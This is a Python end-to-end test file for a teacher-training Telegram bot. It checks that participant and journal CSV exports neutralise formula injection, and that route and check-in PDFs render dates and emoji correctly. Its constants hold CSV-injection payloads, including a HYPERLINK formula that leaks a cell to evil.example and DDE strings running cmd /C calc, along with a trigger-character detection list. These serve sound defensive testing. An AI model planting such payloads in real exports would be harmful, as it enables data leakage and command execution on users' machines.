"""Files the bot hands out, through the real bot. The participants CSV and the journal CSV:
text typed by users (names, schools, comments, event titles) never turns into a live formula,
and the participants' waitlist column numbers the waitlist only. The route: a Volgodonsk
(Rostov Oblast) teacher is offered the Rostov institute and no other region's; its PDF carries
the route's own creation date and prints an emoji title readably. The check-in poster.

Built on the shipped sample events (`tests.sample`): the masterclass with the tricky title has
3 seats in Volgodonsk."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

from sqlalchemy import select

from db.models import Event, Route, RouteStep
from db.reference.sample_events import SAMPLE_EVENT_CODES, TRICKY_TITLE
from db.repo import Repo
from domain.assessment import score
from tests.e2e.conftest import Running
from tests.e2e.flows import coordinator, register
from tests.pdftext import read_pdf
from tests.sample import load_sample_events
from ui.callbacks.event_admin import EventAdminCb
from ui.callbacks.route import BuildCb, RouteCb

FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A2;"Иванова Анна")'
FORMULA_SCHOOL = "+cmd|' /C calc'!A0"
FORMULA_COMMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS_COMMENT = "-2+3+cmd|' /C calc'!A0"
TAB_NAME = "\t=1+2 Петров"
CR_NAME = "\r=1+2 Сидорова"
FORMULA_TITLE = '=HYPERLINK("https://evil.example";"Вебинар")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _table(document: tuple[str, bytes] | None, filename: str) -> list[list[str]]:
    assert document is not None and document[0] == filename, document
    assert document[1].startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(document[1].decode("utf-8-sig"), newline=""), delimiter=";"))


def _assert_no_live_formula(table: list[list[str]]) -> None:
    for row in table:
        for cell in row:
            assert not cell.startswith(TRIGGERS), f"live formula cell {cell!r} in {row!r}"


async def _volgodonsk(running: Running) -> tuple[int, int]:
    async with running.app.sessionmaker() as session:
        repo = Repo(session)
        muni = next(m for m in await repo.reference.municipalities() if m.code == "volgodonsk")
        return muni.id, (await repo.reference.schools(muni.id))[0].id


async def test_participants_csv_neutralises_formulas_and_numbers_only_the_waitlist(
    running: Running,
) -> None:
    events = await load_sample_events(running.app.sessionmaker)
    tricky = events[SAMPLE_EVENT_CODES[0]]
    assert tricky.title == TRICKY_TITLE and tricky.capacity == 3
    muni, school_id = await _volgodonsk(running)
    coord = await coordinator(running, 8601, muni, school_id)
    names = [FORMULA_NAME, "Кузнецова Мария", TAB_NAME, CR_NAME, "Орлова Вера"]
    async with running.app.sessionmaker() as session:
        repo = Repo(session)
        typed = await repo.reference.find_or_add_school(muni, FORMULA_SCHOOL)
        now = datetime.now(UTC)
        regs = []
        for n, name in enumerate(names):
            user, _ = await repo.users.get_or_create(990_100 + n, "ru")
            await repo.users.set_fields(user, full_name=name, school_id=typed.id)
            await session.flush()
            await repo.events.sign_up(tricky.id, user.id, now, eligible=True)
            reg = await repo.events.registration(tricky.id, user.id)
            assert reg is not None
            regs.append(reg)
        await repo.events.mark_attended(regs[0], now)
        await repo.events.set_feedback(regs[0], 5, FORMULA_COMMENT, now)
        await repo.events.set_feedback(regs[1], 4, MINUS_COMMENT, now)
        await session.commit()
        statuses = [r.status for r in regs]
    assert statuses == ["attended", "confirmed", "confirmed", "waitlisted", "waitlisted"]

    await coord.send("/myevents")
    await coord.tap_data(EventAdminCb(action="card", event=tricky.id).pack())
    await coord.tap("📤 Export CSV")
    table = _table(coord.last.document, f"participants-{tricky.id}.csv")
    assert table[0][3] == "Queue number"
    rows = table[1:]
    assert [row[0] for row in rows] == [
        "'" + name if name[0] in "=\t\r" else name for name in names
    ]
    # the waitlist column: blank for the three holding a seat, 1 and 2 for the waiting two
    assert [row[3] for row in rows] == ["", "", "", "1", "2"]
    assert {row[1] for row in rows} == {"'" + FORMULA_SCHOOL}
    assert rows[0][5:] == ["5", "'" + FORMULA_COMMENT]
    assert rows[1][5:] == ["4", "'" + MINUS_COMMENT]
    _assert_no_live_formula(table)


async def test_journal_csv_neutralises_event_titles(running: Running) -> None:
    events = await load_sample_events(running.app.sessionmaker)
    tricky = events[SAMPLE_EVENT_CODES[0]]
    muni, school_id = await _volgodonsk(running)
    teacher = running.chat(8611, lang="en", first_name="Anna")
    await register(teacher, running.emu, municipality_id=muni, school_id=school_id)
    async with running.app.sessionmaker() as session:
        repo = Repo(session)
        start = datetime.now(UTC) - timedelta(days=2)
        hostile = await repo.events.add_event(
            Event(
                kind="webinar",
                title=FORMULA_TITLE,
                municipality_id=muni,
                starts_at=start,
                ends_at=start + timedelta(hours=1, minutes=30),
                online_url="https://meet.example.org/x",
                capacity=10,
                checkin_code="K7M2QX",
            )
        )
        user = await repo.users.by_telegram_id(8611)
        assert user is not None
        for event_id in (hostile.id, tricky.id):
            await repo.events.sign_up(event_id, user.id, start - timedelta(days=1), eligible=True)
            reg = await repo.events.registration(event_id, user.id)
            assert reg is not None
            await repo.events.mark_attended(reg, datetime.now(UTC))
        await session.commit()

    await teacher.send("/journal")
    table = _table(teacher.last.document, "journal.csv")
    by_title = {row[1]: row for row in table[1:]}
    assert set(by_title) == {"'" + FORMULA_TITLE, TRICKY_TITLE}
    assert by_title["'" + FORMULA_TITLE][3] == "1.5"  # a number stays a number (English)
    _assert_no_live_formula(table)


EMOJI_TITLE = "🎓 Итоги года: мастер-класс 👩🏽‍🎓 наставника"


async def test_volgodonsk_route_offers_rostov_resources_and_its_pdf_has_the_build_date(
    running: Running,
) -> None:
    muni, school_id = await _volgodonsk(running)
    teacher = running.chat(8621, lang="ru")
    await register(teacher, running.emu, municipality_id=muni, school_id=school_id)
    async with running.app.sessionmaker() as session:
        repo = Repo(session)
        user = await repo.users.by_telegram_id(8621)
        framework = await repo.frameworks.active()
        assert user is not None and framework is not None
        # gaps in the two competencies whose learning steps name regional institutes
        weak = {"assessment", "health_saving"}
        answers = {s.code: 0 if s.competency in weak else 2 for s in framework.statements(False)}
        now = running.clock.now()
        attempt = await repo.assessments.start(user.id, framework.version, False, now)
        await repo.assessments.finish(
            attempt, score(framework, answers, is_manager=False).to_json(), now
        )
        await session.commit()
        user_id = user.id

    await teacher.send("/route")
    await teacher.tap_data(BuildCb(action="start", code="normal").pack())
    async with running.app.sessionmaker() as session:
        steps = list(
            await session.scalars(select(RouteStep).join(Route).where(Route.user_id == user_id))
        )
        assert {s.competency for s in steps} == weak
        urls = {r["url"] for s in steps for r in s.content.get("resources", [])}
        assert "https://ripkro.ru/" in urls and "https://apkpro.ru/" in urls
        assert not urls & {"https://skiro.ru/", "https://iro23.ru/"}, urls  # other regions'

        # built late on 1 March (UTC) = 2 March in Moscow; one step titled with emoji
        route = await session.scalar(select(Route).where(Route.user_id == user_id))
        assert route is not None
        route.created_at = datetime(2026, 3, 1, 22, 30, tzinfo=UTC)
        first = min(steps, key=lambda s: s.position)
        first.content = {**first.content, "title": {"ru": EMOJI_TITLE, "en": EMOJI_TITLE}}
        await session.commit()

    await teacher.tap_data(RouteCb(action="export").pack())
    document = teacher.last.document
    assert document is not None and document[0] == "route.pdf"
    content = read_pdf(document[1])
    assert content.info["CreationDate"] == "D:20260302013000+03'00'"
    assert "Составлен 02.03.2026" in content.text
    flat = " ".join(content.text.split())
    assert "Итоги года: мастер-класс наставника" in flat
    assert "  " not in content.text and "\ufffd" not in content.text


async def test_check_in_poster_is_an_a4_pdf_with_the_event_and_the_code(running: Running) -> None:
    events = await load_sample_events(running.app.sessionmaker)
    tricky = events[SAMPLE_EVENT_CODES[0]]
    muni, school_id = await _volgodonsk(running)
    coord = await coordinator(running, 8631, muni, school_id)
    await coord.send("/myevents")
    await coord.tap_data(EventAdminCb(action="card", event=tricky.id).pack())
    await coord.tap("🔳 Check-in QR")
    photo = coord.last  # the QR for a screen stays what the coordinator sees last
    assert photo.photo is not None and f"/checkin {tricky.checkin_code}" in photo.plain_text
    poster = next(
        m.document
        for m in reversed(running.emu.chat(coord.user.id))
        if m.document is not None and m.document[0] == f"checkin-{tricky.id}.pdf"
    )
    content = read_pdf(poster[1])
    flat = " ".join(content.text.split())
    assert content.pages == 1
    assert "EVENT CHECK-IN" in flat  # the coordinator's language
    assert 'Мастер-класс <b>«Оценка & "рубрики"»</b> O\'Neil' in flat
    start = tricky.starts_at.astimezone(ZoneInfo("Europe/Moscow"))
    assert f"{start:%d.%m.%Y}, {start:%H:%M}–" in flat
    assert 'МБОУ «Гимназия № 1», каб. 12 <2 этаж> & "актовый зал"' in flat
    assert " ".join(tricky.checkin_code) in flat
    assert f"Scan the QR code or send the bot /checkin {tricky.checkin_code}" in flat
    assert f"https://t.me/metodbot_test_bot?start=checkin_{tricky.id}-" in flat
